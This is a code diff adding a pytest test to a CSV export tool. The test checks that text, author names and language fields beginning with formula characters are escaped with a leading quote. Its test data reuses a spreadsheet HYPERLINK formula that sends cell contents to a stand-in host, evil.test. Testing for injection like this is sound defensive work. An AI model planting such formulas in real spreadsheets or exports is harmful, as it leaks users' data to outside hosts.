@@ -9,6 +9,7 @@ from typing import Any
 import pytest
 
 from devsignal_cli.reports import record_csv
+from tests.archives import file_of, page, post, user
 from tests.reports.test_record_csv import company
 from tests.support import Cli
 
@@ -32,6 +33,19 @@ IN_FRONT = (
     " \n' ",
 )
 FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"see")'
+
+
+def test_s13_every_text_of_a_signal_leaves_the_export_as_text(cli: Cli, tmp_path: Path) -> None:
+    posts = [
+        post(number, text=f"{front}{FORMULA}", lang="=1", author_id="100") for number, front in enumerate(IN_FRONT)
+    ]
+    told = page(posts, user(100, name=FORMULA))
+    assert cli("twitter", "import", file_of(tmp_path, "posts", told)).code == 0
+    written = tmp_path / "all.csv"
+    assert cli("signals", "export", "-o", str(written)).code == 0
+    rows = table([written.read_bytes().decode()])
+    assert sorted(row["text"] for row in rows) == sorted(f"'{front}{FORMULA}" for front in IN_FRONT)
+    assert {(row["author_name"], row["lang"]) for row in rows} == {(f"'{FORMULA}", "'=1")}
 
 
 def table(lines: Iterable[str]) -> list[dict[str, str]]:
